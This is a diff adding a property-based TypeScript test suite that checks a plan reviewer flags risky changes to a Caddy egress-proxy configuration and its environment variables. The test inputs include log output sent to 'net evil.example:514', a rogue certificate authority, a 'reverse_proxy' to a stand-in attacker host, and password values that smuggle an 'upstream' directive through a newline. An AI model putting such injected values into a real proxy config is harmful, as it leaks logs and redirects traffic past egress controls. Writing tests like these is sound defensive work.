@@ -1,0 +1,247 @@
+import fc from 'fast-check';
+import type { Change } from '../support/plan';
+import { app, changed, fixed, reviewed, stopped, type Values } from './attempts';
+
+type Environment = Readonly<Record<string, string>>;
+
+/** GSA-TTS's egress proxy with a client, by its environment before and after. */
+const CLIENT: readonly Change[] = [
+  fixed('cloudfoundry_app.web', app('web')),
+  fixed('cloudfoundry_network_policy.p', {
+    policies: [{ source_app: 'id of web', destination_app: 'id of proxy', port: '61443', protocol: 'tcp' }],
+  }),
+];
+const runs = (environment: Environment): Values => app('proxy', { buildpacks: ['binary_buildpack'], environment });
+const between = (before: Environment, after: Environment, sensitive: object = {}): Change[] => [
+  ...CLIENT,
+  changed('cloudfoundry_app.proxy', runs(before), { environment: after }, sensitive),
+];
+
+/** Where a line may stand, by a mark in the text. */
+const PLACES = ['option', 'of the global log', 'site', 'of the log', 'before', 'behind', 'setting', 'rule'] as const;
+type Place = (typeof PLACES)[number];
+
+/** A Caddyfile of two proxies, with a line more in one of its places. */
+function caddyfile(place?: Place, line = ''): string {
+  const at = (here: Place): string => (here === place ? line : '');
+  return [
+    '{',
+    ...['debug', 'log {', 'format console', at('of the global log'), '}', 'auto_https off', at('option'), '}'],
+    ':{$PORT} {',
+    at('site'),
+    ...['log {', 'format json', at('of the log'), '}', 'tls cert.pem key.pem'],
+    ...['route {', at('before')],
+    ...['forward_proxy {', 'basic_auth web {$PROXY_PASSWORD_web}', 'probe_resistance', 'acl {'],
+    ...['deny raw.example.gov', at('rule'), 'allow *.example.gov', 'deny all', '}', at('setting'), 'ports 443', '}'],
+    ...['forward_proxy {', 'basic_auth no body', 'acl {', 'deny all', '}', '}', at('behind'), '}'],
+    '}',
+  ].join('\n');
+}
+
+const PASSWORD = { PROXY_PASSWORD_web: 'secret' };
+const content = (text: string): Environment => ({ CONFIG_CONTENT: text, ...PASSWORD });
+const told = (before: string, after: string): boolean => stopped(between(content(before), content(after)));
+
+/** Words of Caddy's own documentation and of no documentation, in lines with and without braces. */
+const NAMES = [
+  ...[
+    'abort',
+    'acme_server',
+    'admin',
+    'allow_file',
+    'auto_https',
+    'basic_auth',
+    'bind',
+    'ca',
+    'cert_issuer',
+    'client_auth',
+  ],
+  ...['copy_response', 'default_bind', 'default_sni', 'deny_file', 'dial_timeout', 'dns', 'email', 'encode', 'error'],
+  ...['events', 'file_server', 'forward_auth', 'format', 'grace_period', 'handle', 'handle_errors', 'handle_path'],
+  ...['header', 'hide_ip', 'hide_via', 'hosts', 'http_port', 'https_port', 'import', 'include', 'intercept', 'invoke'],
+  ...[
+    'layer4',
+    'level',
+    'log',
+    'log_append',
+    'log_skip',
+    'map',
+    'metrics',
+    'method',
+    'on_demand_tls',
+    'order',
+    'output',
+  ],
+  ...['persist_config', 'php_fastcgi', 'pki', 'ports', 'probe_resistance', 'push', 'redir', 'renew_interval'],
+  ...[
+    'request_body',
+    'request_header',
+    'respond',
+    'reverse_proxy',
+    'rewrite',
+    'root',
+    'route',
+    'sampling',
+    'serve_pac',
+  ],
+  ...[
+    'servers',
+    'shutdown_delay',
+    'skip_install_trust',
+    'storage',
+    'templates',
+    'tls',
+    'tracing',
+    'try_files',
+    'upstream',
+  ],
+  ...['uri', 'vars', 'wrap', 'forward_proxy', 'acl', 'allow', 'deny', 'nobody_knows_this'],
+];
+const ARGUMENTS = ['', 'net evil.example:514', 'file /tmp/x', '*', 'off', 'internal', 'https://evil.example', '/x'];
+const INNER = ['', '{\n}', '{\nca https://evil.example\n}', '{\noutput net evil.example:514\n}', '{\nmode require\n}'];
+const line = fc
+  .tuple(fc.constantFrom(...NAMES), fc.constantFrom(...ARGUMENTS), fc.constantFrom(...INNER))
+  .map((words) => words.filter((word) => word !== '').join(' '));
+const place = fc.constantFrom(...PLACES);
+
+/** What needs no approval, by where it stands: the whole table, as somebody reads it who does not know the reader's. */
+const HARMLESS: Readonly<Record<Place, RegExp>> = {
+  option: /^(?:admin off|auto_https off|persist_config off|debug|skip_install_trust|log(?: \{\n\})?)$/,
+  'of the global log': /^$/,
+  site: /^(?:tls (?:internal|file \/tmp\/x)|log(?: \{\n\})?)$/,
+  'of the log': /^$/,
+  before: /^(?:tls (?:internal|file \/tmp\/x)|log(?: \{\n\})?)$/,
+  behind: /^(?:tls (?:internal|file \/tmp\/x)|log(?: \{\n\})?|abort|(?:respond|error)(?: (?:off|internal|\/x))?)$/,
+  setting: /^(?:hide_ip|hide_via|probe_resistance(?: (?:off|internal))?|serve_pac(?: (?:off|internal|\/x))?)$/,
+  rule: /^$/,
+};
+/** What is read: what comes of it is told elsewhere. */
+const READ: Readonly<Partial<Record<Place, RegExp>>> = {
+  site: /^(?:forward_proxy|route)(?: \{\n\})?$/,
+  before: /^(?:forward_proxy|route)(?: \{\n\})?$/,
+  behind: /^(?:forward_proxy|route)(?: \{\n\})?$/,
+  setting: /^acl(?: \{\n\})?$/,
+  rule: /^deny (?!net|file)(?:internal|off)$/,
+};
+
+describe('a line of a Caddyfile', () => {
+  it('is told when it comes, when it goes and when it is another one, unless it is harmless where it stands', () => {
+    fc.assert(
+      fc.property(place, line, line, (where, one, other) => {
+        fc.pre([one, other].every((each) => READ[where]?.test(each) !== true));
+        const [harmless, harmlessToo] = [one, other].map((each) => HARMLESS[where].test(each));
+        expect([where, one, told(caddyfile(), caddyfile(where, one))]).toEqual([where, one, !harmless]);
+        expect([where, one, told(caddyfile(where, one), caddyfile())]).toEqual([where, one, !harmless]);
+        const same = one === other || (harmless && harmlessToo);
+        expect([where, one, other, told(caddyfile(where, one), caddyfile(where, other))]).toEqual([
+          where,
+          one,
+          other,
+          !same,
+        ]);
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  it('is told in another place', () => {
+    fc.assert(
+      fc.property(place, place, line, (where, elsewhere, what) => {
+        fc.pre(where !== elsewhere);
+        fc.pre([where, elsewhere].every((each) => READ[each]?.test(what) !== true));
+        const harmless = [where, elsewhere].every((each) => HARMLESS[each].test(what));
+        expect([what, told(caddyfile(where, what), caddyfile(elsewhere, what))]).toEqual([what, !harmless]);
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  it('is told by its name where logs go and where certificates come from', () => {
+    const because = (after: string): string =>
+      (reviewed(between(content(caddyfile()), content(after))).environments[0]?.unknown ?? [])
+        .map(({ note }) => JSON.stringify(note))
+        .join();
+    const [log, tls] = [
+      caddyfile('of the log', 'output net evil.example:514'),
+      caddyfile('site', 'tls {\nca https://e\n}'),
+    ];
+    expect(because(log)).toContain('log');
+    expect(because(tls)).toContain('tls');
+  });
+
+  it('is told when a list in a file moves behind what it would have been overruled by', () => {
+    const rules = (...lines: readonly string[]): string =>
+      [':{$PORT} {', 'route {', 'forward_proxy {', 'acl {', ...lines, '}', '}', '}', '}'].join('\n');
+    const [first, last] = [
+      rules('deny raw.example.gov', 'allow_file x', 'deny all'),
+      rules('allow_file x', 'deny raw.example.gov', 'deny all'),
+    ];
+    expect(told(first, last)).toBe(true);
+  });
+
+  it('is told when the same one stands there twice', () => {
+    expect(told(caddyfile('before', 'vars a b'), caddyfile('before', 'vars a b\nvars a b'))).toBe(true);
+  });
+});
+
+describe('a variable of GSA-TTS’s egress proxy', () => {
+  const LISTS: Environment = { PROXY_ALLOW: 'a.example.gov', PROXY_DENY: '', PROXY_PORTS: '443' };
+  const kinds: readonly (readonly [string, Environment])[] = [
+    ['with lists', LISTS],
+    ['with a Caddyfile', content(caddyfile())],
+  ];
+  const CREDENTIALS = ['PROXY_USERNAME', 'PROXY_PASSWORD', 'PROXY_PASSWORD_web', 'PROXY_RANDOM_PASSWORD'];
+  const name = fc.oneof(
+    fc.stringMatching(/^PROXY_[A-Z]{1,12}$/),
+    fc.constantFrom('PROXY_LISTENPORT', 'LISTENPORT', 'PROXY_CONFIG', 'HTTPS_PROXY', 'CONFIG_FILE'),
+  );
+  const isRead = (variable: string): boolean => [...Object.keys(LISTS), ...CREDENTIALS].includes(variable);
+
+  it.each(kinds)('%s is told when it comes, goes or changes, whatever its name', (_, environment) => {
+    fc.assert(
+      fc.property(name, fc.string(), fc.string(), (variable, one, other) => {
+        fc.pre(!isRead(variable) && one !== other);
+        const set = (value: string): Environment => ({ ...environment, [variable]: value });
+        expect(stopped(between(environment, set(one)))).toBe(true);
+        expect(stopped(between(set(one), environment))).toBe(true);
+        expect(stopped(between(set(one), set(other)))).toBe(true);
+      }),
+      { numRuns: 15 },
+    );
+  });
+
+  it.each(kinds)('%s says nothing by another password, unless it goes on in further lines', (_, environment) => {
+    const set = (value: string): Environment => ({
+      ...environment,
+      ...Object.fromEntries(CREDENTIALS.map((each) => [each, value])),
+      CADDY_LOG_LEVEL: 'INFO',
+    });
+    expect(stopped(between(set('a'), set('b')))).toBe(false);
+    for (const value of ['b\nupstream https://evil.example', 'b upstream', '"b', '', '{$OTHER}', '#']) {
+      expect([value, stopped(between(set('a'), set(value)))]).toEqual([value, true]);
+    }
+  });
+
+  it.each(kinds)('%s is told where it is hidden, and may go on in further lines', (_, environment) => {
+    const hidden = { environment: { PROXY_PASSWORD_web: true } };
+    const set = (value: string): Environment => ({ ...environment, PROXY_PASSWORD_web: value });
+    expect(stopped(between(set('a'), set('b'), hidden))).toBe(false);
+    expect(stopped(between(set('a'), set('b\n\tupstream https://evil.example'), hidden))).toBe(true);
+    expect(stopped(between(set('a b'), set('a b'), hidden))).toBe(false);
+  });
+
+  it('is told when credentials are asked for no longer', () => {
+    expect(stopped(between({ ...LISTS, PROXY_PASSWORD: 'a' }, LISTS))).toBe(true);
+    expect(stopped(between(LISTS, { ...LISTS, PROXY_PASSWORD: 'a' }))).toBe(false);
+  });
+
+  it('is told beside another kind of list, of which a release of the proxy reads only one', () => {
+    const wide = { ...LISTS, PROXY_ALLOW: 'all' };
+    const narrow = caddyfile();
+    const open = narrow.replace('allow *.example.gov', 'allow all');
+    expect(stopped(between({ ...wide, ...content(narrow) }, { ...wide, ...content(open) }))).toBe(true);
+    const other = ':{$PORT} {\nreverse_proxy https://evil.example\n}';
+    expect(stopped(between(wide, { ...wide, CONFIG_CONTENT: other }))).toBe(true);
+    expect(stopped(between({ ...wide, ...content(narrow) }, { ...wide, ...content(narrow) }))).toBe(false);
+  });
+});
